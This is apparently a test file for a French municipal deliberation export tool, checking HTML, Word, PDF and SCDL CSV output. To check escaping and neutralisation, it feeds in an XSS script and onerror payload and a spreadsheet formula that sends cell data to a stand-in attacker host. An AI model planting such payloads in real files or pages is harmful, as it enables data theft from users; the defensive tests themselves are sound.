// Tests of the final documents: what was generated is opened with independent readers (mammoth and the raw
// XML for Word, poppler's pdftotext / pdfinfo / pdffonts for PDF, a CSV parser for the SCDL table), and
// compared with what the source act says.
import assert from 'node:assert/strict';
import { execFile, execFileSync, spawnSync } from 'node:child_process';
import { existsSync, lstatSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync, copyFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { basename, join } from 'node:path';
import JSZip from 'jszip';
import mammoth from 'mammoth';
import { analyze, type Analysis } from '../core/analyze';
import { buildFileLayout, buildLayout, type Block, type Layout } from '../core/export/layout';
import { renderHtml, renderBody } from '../core/export/html';
import { plainText } from '../core/export/layout';
import { renderDocument, SCDL_FIELDS, SCDL_REQUIRED, scdlProblems, scdlRows, scdlRowsOfFile, toCsv, writeAtomic, freeName } from '../core/export/index';
import { isSubMatter, subMatterName } from '../core/text/actes';
import type { Finding } from '../core/types';
import { repoPath } from './helpers/paths';

const CLI = repoPath('dist/cli.js');

/** A municipal extract with a vote, a signature, a convention and an annex with a budget table. */
const ACT = [
  'RÉPUBLIQUE FRANÇAISE',
  'COMMUNE DE SAINT-VIT',
  '',
  'EXTRAIT DU REGISTRE DES DÉLIBÉRATIONS DU CONSEIL MUNICIPAL',
  '',
  'Séance du lundi 14 avril 2025',
  '',
  'Nombre de conseillers en exercice : 5',
  '',
  'Étaient présents : M. Pascal ROUTHIER, Mme Anne DURAND, M. Paul MARTIN, Mme Julie PETIT, M. Marc BERNARD',
  '',
  'Délibération n°2025-031',
  '',
  'Objet : Subvention à l\'école de musique & convention <annuelle>',
  '',
  'Après en avoir délibéré, le Conseil Municipal :',
  '',
  '- **APPROUVE** la convention ci-annexée et le versement de 1 500 € à compter du 1^{er} mai 2025,',
  '',
  'Pour : 4',
  '',
  'Contre : 1 (Mme Julie PETIT)',
  '',
  'Abstention : 0',
  '',
  'Pour extrait conforme,',
  '',
  'Le Maire,',
  '',
  'Pascal ROUTHIER',
  '',
  'CONVENTION D\'OBJECTIFS ET DE MOYENS',
  '',
  'Entre',
  '',
  'La Commune de Saint-Vit, d\'une part,',
  '',
  'Article 1 - Objet',
  '',
  'La présente convention a pour objet l\'enseignement musical, pour un budget prévisionnel de 2 000 € figurant en annexe 1.',
  '',
  'Article 2 - Montant de la subvention',
  '',
  'La Commune attribue une subvention de 1 500 € versée à la signature.',
  '',
  'Article 3 - Modalités de versement',
  '',
  'La subvention est versée en une fois, à la signature.',
  '',
  'Article 4 - Conditions d\'utilisation',
  '',
  'L\'association utilise la subvention pour l\'objet défini à l\'article 1.',
  '',
  'Annexe 1 : budget prévisionnel',
  '',
  'Charges\tMontant',
  'Professeurs\t1 200 €',
  'Locaux\t800 €',
  'TOTAL\t2 000 €',
  '',
].join('\n');

function blocksOf(layout: Layout, kind: Block['kind']) {
  return layout.blocks.filter((b) => b.kind === kind);
}

function plain(html: string): string {
  return html.replace(/<[^>]+>/g, ' ').replace(/&amp;/g, '&').replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&#39;/g, "'").replace(/&quot;/g, '"').replace(/\s+/g, ' ').trim();
}

function squash(text: string): string {
  return text.replace(/[\s\u00a0\u202f]+/g, ' ').trim();
}

interface Run {
  status: number;
  stdout: string;
  stderr: string;
}

function delib(args: string[], cwd?: string): Promise<Run> {
  return new Promise((done) => {
    execFile(process.execPath, [CLI, ...args], { cwd }, (error, stdout, stderr) => {
      done({ status: error ? (typeof error.code === 'number' ? error.code : -1) : 0, stdout, stderr });
    });
  });
}

function has(command: string): boolean {
  try {
    execFileSync(command, ['-v'], { stdio: 'ignore' });
    return true;
  } catch (err) {
    return (err as NodeJS.ErrnoException).code !== 'ENOENT';
  }
}

/** RFC 4180 reader (quoted fields, doubled quotes, CRLF). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { field += '"'; i++; }
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(field); field = ''; }
    else if (c === '\n') { row.push(field.replace(/\r$/, '')); rows.push(row); row = []; field = ''; }
    else field += c;
  }
  if (field || row.length) { row.push(field); rows.push(row); }
  return rows;
}

const SAMPLES = readdirSync(repoPath('samples')).filter((f) => f.endsWith('.delib')).map((f) => repoPath('samples', f));
/** The richest sample: an extract with a vote and an annexed convention with tables. */
const RICH = SAMPLES.map((file) => ({ file, text: readFileSync(file, 'utf8') }))
  .map((s) => ({ ...s, analysis: analyze(s.text) }))
  .sort((a, b) => score(b.analysis) - score(a.analysis))[0];

function score(a: ReturnType<typeof analyze>): number {
  return (a.model.reports.some((r) => r.vote?.pour) ? 4 : 0) + (a.model.convention ? 2 : 0) + a.doc.annexes.length + a.doc.tables.length;
}

describe('export: layout of the act', () => {
  const layout = buildLayout(analyze(ACT).model);

  it('gives the parts of an extract their roles, in order', () => {
    const headings = blocksOf(layout, 'heading') as Extract<Block, { kind: 'heading' }>[];
    const title = headings.find((h) => h.level === 1)!;
    assert.match(title.runs.map((r) => r.text).join(''), /EXTRAIT DU REGISTRE/);
    assert.equal(title.pageBreakBefore, undefined, 'the first title starts the first page');
    const header = layout.blocks.filter((b) => b.kind === 'paragraph' && b.role === 'header');
    assert.deepEqual(header.map((b) => b.first), [0, 1], 'the collectivity header is the lines above the title');
    assert.ok(headings.some((h) => h.level === 2 && /^Séance du/.test(h.runs[0].text)));
    assert.ok(layout.blocks.some((b) => b.kind === 'paragraph' && b.role === 'attendance'));
    const vote = blocksOf(layout, 'vote')[0] as Extract<Block, { kind: 'vote' }>;
    assert.deepEqual(vote.rows.map((r) => [r.label, r.count]), [['Pour', '4'], ['Contre', '1'], ['Abstention', '0']]);
    assert.equal(vote.rows[1].runs[0].text, '(Mme\u00a0Julie PETIT)', 'no break after the civility');
    const sig = blocksOf(layout, 'signatures')[0] as Extract<Block, { kind: 'signatures' }>;
    assert.equal(sig.parties.length, 1);
    assert.match(sig.parties[0].map((r) => r.text).join('|'), /Pour extrait conforme.*Le Maire.*Pascal ROUTHIER/);
    assert.equal(layout.collectivity, 'Commune de Saint-Vit');
  });

  it('keeps decisions in bold and superscripts, and puts the convention and its annexes on new pages', () => {
    const list = blocksOf(layout, 'list')[0] as Extract<Block, { kind: 'list' }>;
    assert.deepEqual(list.items[0].runs.filter((r) => r.bold).map((r) => r.text), ['APPROUVE']);
    assert.deepEqual(list.items[0].runs.filter((r) => r.sup).map((r) => r.text), ['er']);
    const breaks = (blocksOf(layout, 'heading') as Extract<Block, { kind: 'heading' }>[]).filter((b) => b.pageBreakBefore).map((b) => b.runs.map((r) => r.text).join('').replace(/\u00a0/g, ' '));
    assert.deepEqual(breaks, ["CONVENTION D'OBJECTIFS ET DE MOYENS", 'Annexe 1 : budget prévisionnel']);
    const table = blocksOf(layout, 'table')[0] as Extract<Block, { kind: 'table' }>;
    assert.deepEqual(table.numeric, [false, true]);
    assert.deepEqual(table.rows.map((r) => [r.cells[0], !!r.header, !!r.total]), [['Charges', true, false], ['Professeurs', false, false], ['Locaux', false, false], ['TOTAL', false, true]]);
  });

  it('follows French typography on the spaces written: none breaks after M., Mme or n°, before « : » or « € »', () => {
    const text = plainText(layout.blocks.flatMap((b) => (b.kind === 'paragraph' || b.kind === 'heading' ? b.runs : [])));
    assert.match(text, /M\u00a0Pascal ROUTHIER|M\.\u00a0Pascal ROUTHIER/);
    assert.match(text, /Délibération n°2025-031/);
    assert.match(text, /Objet\u00a0: Subvention/);
    const typed = buildLayout(analyze('Le conseil désigne Mme Anne DURAND (délibération n° 12) : « projet » pour 20 % et 1 500 € ; voilà !').model);
    const shown = plainText((typed.blocks[0] as Extract<Block, { kind: 'paragraph' }>).runs);
    assert.equal(shown, 'Le conseil désigne Mme\u00a0Anne DURAND (délibération n°\u00a012)\u00a0: «\u00a0projet\u00a0» pour 20\u00a0% et 1\u00a0500\u00a0€\u00a0; voilà\u00a0!');
  });

  it('prints a sentence that announces what follows as written, not in bold like a field label', () => {
    const blocks = buildLayout(analyze('Il est proposé d’attribuer les subventions suivantes :\n\n- Association A : 1 000 €\n\nObjet : Subventions').model).blocks as Extract<Block, { kind: 'paragraph' }>[];
    assert.equal(blocks[0].role, 'body');
    assert.ok(blocks[0].runs.every((r) => !r.bold));
    assert.equal(blocks[0].keepWithNext, true, 'still kept with what it announces');
    const field = blocks.find((b) => b.role === 'field')!;
    assert.deepEqual(field.runs.filter((r) => r.bold).map((r) => r.text), ['Objet\u00a0:']);
  });

  it('prints the delegates of a community council one commune per line', () => {
    const community = buildLayout(analyze(readFileSync(repoPath('samples', 'extrait-communautaire.delib'), 'utf8')).model);
    const present = community.blocks.find((b) => b.kind === 'paragraph' && b.role === 'attendance') as Extract<Block, { kind: 'paragraph' }>;
    const lines = plainText(present.runs).split('\n');
    assert.match(lines[0], /^Étaient présents\s*:?$/);
    assert.ok(lines.length > 30, `${lines.length} lines`);
    for (const l of lines.slice(1)) assert.match(l, /^[\p{Lu}][\p{L}' -]+\s*: (?:M\.|Mme)\u00a0/u, l);
  });

  it('never crashes on broken or empty input', () => {
    for (const text of ['', '\n\n', '**', 'Pour : \nContre :', '\tx\n|a|b|\n', 'Annexe 1 :\n', 'Pour extrait conforme,\n\n\n']) {
      const l = buildLayout(analyze(text).model);
      assert.doesNotThrow(() => renderHtml(l), JSON.stringify(text));
    }
  });
});

describe('export: HTML', () => {
  it('is one self-contained page, every text escaped, with a strict policy', () => {
    const hostile = `${ACT}\nLe conseil note <script>alert("x")</script> & <img src=x onerror=alert(1)>\n`;
    const html = renderHtml(buildLayout(analyze(hostile).model));
    assert.ok(!/<script/i.test(html), 'no script');
    assert.ok(!/<img/i.test(html), 'no element from the document');
    assert.match(html, /&lt;script&gt;alert\(&quot;x&quot;\)&lt;\/script&gt; &amp; &lt;img/);
    assert.match(html, /<meta http-equiv="Content-Security-Policy" content="default-src &#39;none&#39;/);
    assert.ok(!/<[a-z][^>]*\s(?:src|href)=/i.test(html), 'nothing loaded from outside');
    assert.ok(!/<(?:link|img|iframe|object|embed)\b/i.test(html));
    assert.match(html, /<h1[^>]*>EXTRAIT DU REGISTRE/);
    assert.match(plain(html), /Objet : Subvention à l'école de musique & convention <annuelle>/);
  });

  it('marks the findings in the margin of the preview in words, with their message under the block of their lines', () => {
    const analysis = analyze(ACT);
    const finding: Finding = { code: 'vote-count', severity: 'error', message: 'Les votes <ne> tombent pas juste', range: { start: { line: 21, character: 0 }, end: { line: 21, character: 5 } } };
    const body = renderBody(buildLayout(analysis.model), { findings: [finding], sourceLines: true });
    const block = /<div class="blk finding-error" data-line="(\d+)" data-last="(\d+)"><div class="marks"><span class="mark error" title="vote-count">Erreur<\/span><\/div><table class="vote">.*?<\/table><div class="notes"><p class="note error">([^<]*)<\/p><\/div><\/div>/s.exec(body);
    assert.ok(block, 'the vote block carries the mark and the message');
    assert.ok(Number(block[1]) <= 21 && Number(block[2]) >= 21);
    assert.equal(block[3], 'Les votes &lt;ne&gt; tombent pas juste');
    assert.doesNotMatch(body, />vote-count</, 'no code shown as text');
    assert.match(renderBody(buildLayout(analysis.model), { findings: [finding], sourceLines: true, locale: 'en' }), /<span class="mark error" title="vote-count">Error<\/span>/);
    const page = renderHtml(buildLayout(analysis.model), { csp: "default-src 'none'; script-src 'nonce-abc'", script: { nonce: 'abc', code: 'let a = "</script>";' } });
    assert.equal(page.match(/<script/g)?.length, 1, 'only the host script');
    assert.match(page, /<script nonce="abc">let a = "<\\\/script>";<\/script>/);
  });
});

describe('export: Word (.docx), read back with mammoth and from its XML', () => {
  let html = '';
  let xml = '';
  let footer = '';
  before(async () => {
    const bytes = await renderDocument(RICH.analysis, 'docx');
    html = (await mammoth.convertToHtml({ buffer: Buffer.from(bytes) })).value;
    const zip = await JSZip.loadAsync(bytes);
    xml = await zip.file('word/document.xml')!.async('string');
    const footers = Object.keys(zip.files).filter((f) => /^word\/footer\d*\.xml$/.test(f));
    footer = (await Promise.all(footers.map((f) => zip.file(f)!.async('string')))).join('');
  });

  it(`has real Word headings: the title, the articles and the annexes (${basename(RICH.file)})`, () => {
    const h = (level: number) => [...html.matchAll(new RegExp(`<h${level}>(.*?)</h${level}>`, 'g'))].map((m) => squash(plain(m[1])));
    const title = RICH.analysis.doc.lines.find((l) => /extrait du registre/i.test(l.text));
    if (title) assert.ok(h(1).includes(squash(title.text)), `h1 ${h(1).join(' / ')}`);
    for (const a of RICH.analysis.doc.articles) assert.ok(h(2).includes(squash(a.heading.text)), a.heading.text);
    for (const a of RICH.analysis.doc.annexes) assert.ok(h(2).includes(squash(a.heading.text)), a.heading.text);
  });

  it('has the vote and the table rows with their amounts', () => {
    const vote = RICH.analysis.model.reports.find((r) => r.vote?.pour)?.vote;
    assert.ok(vote?.pour, 'the sample has a vote');
    const rows = [...html.matchAll(/<tr>(.*?)<\/tr>/g)].map((m) => [...m[1].matchAll(/<td>(.*?)<\/td>/g)].map((c) => squash(plain(c[1]))));
    assert.ok(rows.some((r) => r[0] === 'Pour :' && r[1] === String(vote.pour!.value)), 'Pour : N');
    if (vote.contre) assert.ok(rows.some((r) => r[0] === 'Contre :' && r[1] === String(vote.contre!.value)));
    for (const t of RICH.analysis.doc.tables) {
      for (const row of t.rows.filter((r) => r.cells.some((c) => c.amounts.length))) {
        const cells = row.cells.map((c) => squash(c.text));
        assert.ok(rows.some((r) => r.join('|') === cells.join('|')), `row ${cells.join(' | ')}`);
      }
    }
    // The decisions written in bold (« **…** ») are bold in Word.
    const strong = [...html.matchAll(/<strong>(.*?)<\/strong>/g)].map((m) => squash(plain(m[1]))).join(' ');
    const decisions = [...RICH.text.matchAll(/\*\*(.+?)\*\*/g)].map((m) => squash(m[1].replace(/\^\{([^}]*)\}/g, '$1')));
    assert.ok(decisions.length > 0);
    for (const d of decisions) assert.ok(strong.includes(d), d);
  });

  it('is A4, numbers its pages and starts the convention and each annex on a new page', () => {
    assert.match(xml, /<w:pgSz w:w="11906" w:h="16838"/);
    assert.match(footer, /PAGE/);
    assert.match(footer, /NUMPAGES/);
    const breaks = (xml.match(/<w:pageBreakBefore\/>/g) ?? []).length;
    assert.equal(breaks, RICH.analysis.doc.annexes.length + (RICH.analysis.model.reports.length && RICH.analysis.model.convention ? 1 : 0));
  });
});

describe('export: PDF, read back with poppler (pdftotext, pdfinfo, pdffonts)', function () {
  let dir = '';
  let pdf = '';
  before(async function () {
    if (!has('pdftotext')) {
      console.warn('      pdftotext absent (Debian package poppler-utils, installed by .ci/run): PDF tests skipped');
      this.skip();
    }
    dir = mkdtempSync(join(tmpdir(), 'delib-pdf-'));
    pdf = join(dir, 'acte.pdf');
    writeFileSync(pdf, await renderDocument(RICH.analysis, 'pdf'));
  });
  after(() => dir && rmSync(dir, { recursive: true, force: true }));

  const text = (...args: string[]) => execFileSync('pdftotext', [...args, pdf, '-'], { encoding: 'utf8' });

  it('holds the text of the act with its accents and €', () => {
    const all = squash(text());
    const title = RICH.analysis.doc.lines.find((l) => /extrait du registre/i.test(l.text));
    if (title) assert.ok(all.includes(squash(title.text).toLocaleUpperCase('fr')), 'the title, accents included');
    for (const a of RICH.analysis.doc.articles) assert.ok(all.includes(squash(a.heading.text)), a.heading.text);
    const amounts = RICH.analysis.doc.tables.flatMap((t) => t.rows.flatMap((r) => r.cells.flatMap((c) => c.amounts.map((a) => squash(a.text)))));
    assert.ok(amounts.length > 0 && amounts.some((a) => a.includes('€')));
    for (const a of amounts) assert.ok(all.includes(a), a);
    assert.match(all, /Pour extrait conforme/);
    assert.match(all, /[éèàç]/);
  });

  it('is A4 with embedded fonts and page numbers; the convention and the annexes start their pages', () => {
    const info = execFileSync('pdfinfo', [pdf], { encoding: 'utf8' });
    assert.match(info, /Page size:\s+595\.2\d? x 841\.8\d? pts \(A4\)/);
    const pages = Number(/Pages:\s+(\d+)/.exec(info)![1]);
    const fonts = execFileSync('pdffonts', [pdf], { encoding: 'utf8' }).split('\n').slice(2).filter(Boolean);
    assert.ok(fonts.length > 0 && fonts.every((f) => /DejaVuSerif/.test(f) && /\byes\b.*\byes\b/.test(f)), fonts.join('\n'));
    for (let p = 1; p <= pages; p++) assert.match(text('-f', String(p), '-l', String(p)), new RegExp(`Page ${p} sur ${pages}`));
    const firstLines = Array.from({ length: pages }, (_, i) => text('-f', String(i + 1), '-l', String(i + 1)).split('\n').map((l) => l.trim()).filter(Boolean));
    for (const a of RICH.analysis.doc.annexes) {
      assert.ok(firstLines.some((lines) => lines.slice(0, 3).some((l) => squash(l) === squash(a.heading.text))), `${a.heading.text} starts a page`);
    }
  });
});

describe('export: SCDL Délibérations CSV', () => {
  it('has the fields of the schema, ISO dates, integer votes and VOTE_REEL = POUR + CONTRE + ABSTENTION', () => {
    const acts = SAMPLES.map((f) => analyze(readFileSync(f, 'utf8')));
    const rows = acts.flatMap((a, i) => scdlRows(a.model, SAMPLES[i]).rows);
    const csv = parseCsv(toCsv(rows));
    assert.deepEqual(csv[0], [...SCDL_FIELDS]);
    assert.equal(csv.length - 1, acts.reduce((n, a) => n + a.model.reports.length, 0), 'one row per deliberation');
    for (const r of csv.slice(1)) {
      assert.equal(r.length, SCDL_FIELDS.length);
      const get = (f: string) => r[SCDL_FIELDS.indexOf(f as never)];
      assert.match(get('DELIB_DATE'), /^\d{4}-\d{2}-\d{2}$/);
      assert.match(get('PREF_DATE'), /^(?:\d{4}-\d{2}-\d{2})?$/);
      for (const f of ['VOTE_EFFECTIF', 'VOTE_REEL', 'VOTE_POUR', 'VOTE_CONTRE', 'VOTE_ABSTENTION']) assert.match(get(f), /^(?:\d+)?$/, f);
      if (get('VOTE_REEL')) assert.equal(Number(get('VOTE_REEL')), Number(get('VOTE_POUR')) + Number(get('VOTE_CONTRE')) + Number(get('VOTE_ABSTENTION')));
      assert.equal(get('COLL_SIRET'), '', 'never invented');
    }
  });

  it('takes the votes, dates and counts from the act and names the required fields it leaves empty', () => {
    const { rows, warnings } = scdlRows(analyze(ACT).model, 'acte.delib');
    assert.equal(rows.length, 1);
    const r = rows[0];
    assert.deepEqual([r.DELIB_ID, r.DELIB_DATE, r.VOTE_EFFECTIF, r.VOTE_POUR, r.VOTE_CONTRE, r.VOTE_ABSTENTION, r.VOTE_REEL], ['2025-031', '2025-04-14', '5', '4', '1', '0', '5']);
    assert.equal(r.DELIB_OBJET, "Subvention à l'école de musique & convention <annuelle>");
    assert.equal(r.COLL_NOM, 'Commune de Saint-Vit');
    assert.equal(warnings.length, 1);
    for (const f of ['COLL_SIRET', 'DELIB_MATIERE_CODE', 'DELIB_MATIERE_NOM']) assert.match(warnings[0], new RegExp(f));
    const given = scdlRows(analyze(ACT).model, 'acte.delib', { siret: '21250537400018', matiereCode: '7.5', matiereNom: 'Finances locales / Subventions' });
    assert.deepEqual(given.warnings, []);
    assert.equal(given.rows[0].COLL_SIRET, '21250537400018');
    assert.ok(SCDL_REQUIRED.every((f) => given.rows[0][f] !== ''));
    assert.equal(parseCsv(toCsv(given.rows))[1][SCDL_FIELDS.indexOf('DELIB_OBJET')], r.DELIB_OBJET, 'quoted and read back');
  });

  it('takes the @ctes sub-matter the act states, names it as the schema asks, and fills the address of each act', () => {
    const stated = ACT.replace('Délibération n°2025-031', 'Délibération n°2025-031\n\nNomenclature : 7.5.1 Subventions de fonctionnement');
    const { rows, warnings } = scdlRows(analyze(stated).model, 'acte.delib', { siret: '21250537400018', matiereCode: '8.1', matiereNom: 'enseignement', prefId: 'PREF025', url: 'https://www.saint-vit.fr/actes/{ANNEE}/{DELIB_ID}.pdf' });
    assert.deepEqual(warnings, []);
    const r = rows[0];
    assert.equal(r.DELIB_MATIERE_CODE, '7.5', 'the act’s own, at level 2, before the one given for the batch');
    assert.equal(r.DELIB_MATIERE_NOM, 'finances locales/subventions', 'not the name given with another code');
    assert.equal(r.PREF_ID, 'PREF025');
    assert.equal(r.DELIB_URL, 'https://www.saint-vit.fr/actes/2025/2025-031.pdf');
    assert.deepEqual(scdlProblems(rows), []);
    assert.equal(subMatterName('7.1'), 'finances locales/décisions budgétaires');
    assert.equal(subMatterName('8.5'), 'domaines de compétences par thèmes/politique de la ville habitat logement');
    assert.deepEqual(['7.5', '7.10', '9.4', '7.11', '9.5', '7', '7.5.1', '10.1'].map(isSubMatter), [true, true, true, false, false, false, false, false]);
    // Without a statement in the act, the code given names itself from the nomenclature when no name is given.
    assert.equal(scdlRows(analyze(ACT).model, 'a', { matiereCode: '3.1' }).rows[0].DELIB_MATIERE_NOM, 'domaine et patrimoine/acquisitions');
  });

  it('names where each missing required field can come from', () => {
    const { warnings } = scdlRows(analyze(ACT).model, 'acte.delib');
    assert.match(warnings[0], /COLL_SIRET \(--siret, ou « siret » du tableau des membres\)/);
    assert.match(warnings[0], /DELIB_MATIERE_CODE \(--matiere, .*« Nomenclature : 7\.5 » dans l’acte\)/);
  });

  it('checks every value against the SCDL schema before the file is written', () => {
    const { rows } = scdlRows(analyze(ACT).model, 'acte.delib', { siret: '21250537400017', matiereCode: '7.5', prefId: 'PREF25', url: 'ftp://x/{DELIB_ID}' });
    const problems = scdlProblems(rows);
    assert.equal(problems.length, 3, problems.join('\n'));
    assert.match(problems[0], /^ligne 1 \(2025-031\) : COLL_SIRET « 21250537400017 » : attendu 14 chiffres, clé de contrôle juste$/);
    assert.match(problems.join('\n'), /PREF_ID « PREF25 »/);
    assert.match(problems.join('\n'), /DELIB_URL « ftp:\/\/x\/2025-031 »/);
    assert.match(scdlProblems(rows, 'en')[0], /^row 1 \(2025-031\): COLL_SIRET/);
  });

  it('neutralises a cell a spreadsheet would run as a formula (CSV injection), in the act and in the options', () => {
    const act = ACT.replace("Objet : Subvention à l'école de musique & convention <annuelle>", 'Objet : =HYPERLINK("http://evil.example/?x="&A1;"cliquer")');
    const { rows } = scdlRows(analyze(act).model, 'acte.delib', { collectivity: '+SUM(1,2)', matiereCode: '-7.5', matiereNom: '@cmd', siret: '21250537400018' });
    const cells = parseCsv(toCsv(rows))[1];
    const cell = (f: (typeof SCDL_FIELDS)[number]) => cells[SCDL_FIELDS.indexOf(f)];
    assert.equal(cell('DELIB_OBJET'), `'${rows[0].DELIB_OBJET}`);
    assert.ok(rows[0].DELIB_OBJET.startsWith('=HYPERLINK('), rows[0].DELIB_OBJET);
    assert.deepEqual([cell('COLL_NOM'), cell('DELIB_MATIERE_CODE'), cell('DELIB_MATIERE_NOM')], ["'+SUM(1,2)", "'-7.5", "'@cmd"]);
    // Figures and ordinary text are written as they are.
    assert.deepEqual([cell('VOTE_POUR'), cell('DELIB_DATE'), cell('COLL_SIRET')], ['4', '2025-04-14', '21250537400018']);
    for (const c of cells) assert.ok(!/^[=+\-@\t\r]/.test(c), c);
  });
});

describe('export: SCDL rows of a register', () => {
  it('gives one row per deliberation of every act when a file holds several acts', () => {
    const municipal = readFileSync(repoPath('samples', 'extrait-municipal.delib'), 'utf8');
    const community = readFileSync(repoPath('samples', 'extrait-communautaire.delib'), 'utf8');
    const one = (text: string) => scdlRowsOfFile(analyze(text), 'x.delib').rows.map((r) => r.DELIB_ID);
    const register = scdlRowsOfFile(analyze(`${municipal}\n\n${community}`), 'registre.delib').rows.map((r) => r.DELIB_ID);
    assert.ok(one(municipal).length > 0 && one(community).length > 0);
    assert.deepEqual(register, [...one(municipal), ...one(community)]);
  });
});

describe('export: a register (several acts in one file)', function () {
  // Two acts of the samples one after the other: every document holds both, the second from a new page.
  const municipal = readFileSync(repoPath('samples', 'extrait-municipal.delib'), 'utf8');
  const community = readFileSync(repoPath('samples', 'extrait-communautaire.delib'), 'utf8');
  const register = analyze(`${municipal}\n\n${community}`);
  const secondStart = municipal.split('\n').length + 1;
  // What each act says that the other does not: its deliberation's object.
  const objectOf = (text: string) => squash(analyze(text).model.reports[0].title ?? '');
  const objects = [objectOf(municipal), objectOf(community)];

  it('lays out every act, the second from a new page where its own lines start', () => {
    assert.equal(register.acts.length, 2);
    const layout = buildFileLayout(register.acts);
    const single = register.acts.map((m) => buildLayout(m));
    assert.equal(layout.blocks.length, single[0].blocks.length + single[1].blocks.length);
    const breaks = layout.blocks.filter((b) => b.pageBreakBefore);
    const second = layout.blocks[single[0].blocks.length];
    assert.ok(second.pageBreakBefore, 'the second act starts a page');
    assert.ok(second.first >= secondStart - 1, `the second act's first block is on its lines (${second.first})`);
    assert.equal(breaks.length, single[0].blocks.filter((b) => b.pageBreakBefore).length + single[1].blocks.filter((b) => b.pageBreakBefore).length + 1);
    assert.match(layout.title, /\(\+ 1 autre acte\)$/);
    assert.notEqual(single[0].collectivity, single[1].collectivity);
    assert.equal(layout.collectivity, undefined, 'two collectivities: no running header rather than a wrong one');
    const same = buildFileLayout(analyze(`${municipal}\n\n${municipal}`).acts);
    assert.equal(same.collectivity, single[0].collectivity, 'one collectivity: its name in the running header');
  });

  it('prints both acts in HTML, Word and PDF', async function () {
    this.timeout(30000);
    const html = plain(new TextDecoder().decode(await renderDocument(register, 'html')));
    const word = squash(plain((await mammoth.convertToHtml({ buffer: Buffer.from(await renderDocument(register, 'docx')) })).value));
    for (const o of objects) {
      assert.ok(o.length > 10, o);
      assert.ok(html.includes(o), `HTML: ${o}`);
      assert.ok(word.includes(o), `Word: ${o}`);
    }
    assert.match(new TextDecoder().decode(await renderDocument(register, 'html')), /class="header page-break"|class="page-break/);
    if (!has('pdftotext')) return;
    const dir = mkdtempSync(join(tmpdir(), 'delib-register-'));
    try {
      const pdf = join(dir, 'registre.pdf');
      writeFileSync(pdf, await renderDocument(register, 'pdf'));
      const pages = Number(/Pages:\s+(\d+)/.exec(execFileSync('pdfinfo', [pdf], { encoding: 'utf8' }))![1]);
      const pageText = (p: number) => squash(execFileSync('pdftotext', ['-f', String(p), '-l', String(p), pdf, '-'], { encoding: 'utf8' }));
      const pageOf = (o: string) => Array.from({ length: pages }, (_, i) => i + 1).find((p) => pageText(p).includes(o));
      const [p1, p2] = objects.map(pageOf);
      assert.ok(p1 !== undefined && p2 !== undefined && p2 > p1, `the objects on pages ${p1} and ${p2} of ${pages}`);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('export: files and the command line', () => {
  let dir = '';
  beforeEach(() => (dir = mkdtempSync(join(tmpdir(), 'delib-export-'))));
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  it('never writes over an existing file without consent, and leaves no temporary file', () => {
    const target = join(dir, 'acte.html');
    assert.equal(writeAtomic(target, 'one', 'next-free-name'), target);
    assert.equal(writeAtomic(target, 'two', 'next-free-name'), join(dir, 'acte (2).html'));
    assert.equal(readFileSync(target, 'utf8'), 'one');
    assert.equal(freeName(target), join(dir, 'acte (3).html'));
    assert.equal(writeAtomic(target, 'three', 'replace'), target);
    assert.equal(readFileSync(target, 'utf8'), 'three');
    assert.deepEqual(readdirSync(dir).sort(), ['acte (2).html', 'acte.html']);
  });

  it('says in words why a file cannot be written (-o naming a file, not a folder)', async () => {
    const src = join(dir, 'acte.delib');
    writeFileSync(src, ACT);
    const notAFolder = join(dir, 'fichier');
    writeFileSync(notAFolder, '');
    const run = await delib(['export', src, '--to', 'html', '-o', notAFolder]);
    assert.equal(run.status, 2);
    assert.match(run.stderr, /écriture impossible \(un fichier porte déjà ce nom/);
  });

  it('takes a link at the output name, even one that leads nowhere, for a name taken; replaces a link without writing through it; cleans what a killed export left', () => {
    const target = join(dir, 'acte.pdf');
    symlinkSync(join(dir, 'nowhere.pdf'), target);
    assert.equal(writeAtomic(target, 'one', 'next-free-name'), join(dir, 'acte (2).pdf'));
    assert.ok(!existsSync(join(dir, 'nowhere.pdf')), 'nothing written through the dangling link');
    const kept = join(dir, 'kept.txt');
    writeFileSync(kept, 'kept');
    const link = join(dir, 'lien.pdf');
    symlinkSync(kept, link);
    assert.equal(writeAtomic(link, 'two', 'replace'), link);
    assert.equal(readFileSync(kept, 'utf8'), 'kept');
    assert.ok(!lstatSync(link).isSymbolicLink());
    // A temporary file of a process that is gone (a killed export), and one of a process alive.
    const gone = join(dir, `.acte.html.999999999.abc.tmp`);
    const mine = join(dir, `.acte.html.${process.ppid}.abc.tmp`);
    writeFileSync(gone, 'partial');
    writeFileSync(mine, 'partial');
    writeAtomic(join(dir, 'acte.html'), 'three', 'next-free-name');
    assert.ok(!existsSync(gone));
    assert.ok(existsSync(mine), 'a running export keeps its temporary file');
  });

  it('refuses an act with errors without --force (status 1, one line saying why), and exports it with --force', async () => {
    const bad = join(dir, 'faux.delib');
    // Declared counts that the attendance list contradicts: an error finding.
    writeFileSync(bad, ACT.replace('Nombre de conseillers en exercice : 5', 'Nombre de conseillers en exercice : 5\nPrésents : 9'));
    assert.ok(analyze(readFileSync(bad, 'utf8')).findings.some((f) => f.severity === 'error'), 'the act has an error');
    const refused = await delib(['export', bad, '--to', 'pdf,html']);
    assert.equal(refused.status, 1);
    const lines = refused.stderr.trim().split('\n');
    assert.equal(lines.length, 1);
    assert.match(lines[0], /faux\.delib : non exporté, \d+ erreurs? \(.*member-count.*\).*--force/);
    assert.deepEqual(readdirSync(dir), ['faux.delib']);
    const english = await delib(['export', bad, '--to', 'pdf', '--locale', 'en']);
    assert.equal(english.status, 1);
    assert.match(english.stderr.trim(), /^delib: .*faux\.delib: not exported, \d+ errors? \(.*\); fix .* or export anyway with --force$/);
    const forced = await delib(['export', bad, '--to', 'html', '--force']);
    assert.equal(forced.status, 0, forced.stderr);
    assert.ok(existsSync(join(dir, 'faux.html')));
  });

  it('exports a folder to every format; exporting again is refused, nothing written, unless --overwrite', async () => {
    const src = join(dir, 'actes');
    execFileSync('mkdir', ['-p', src]);
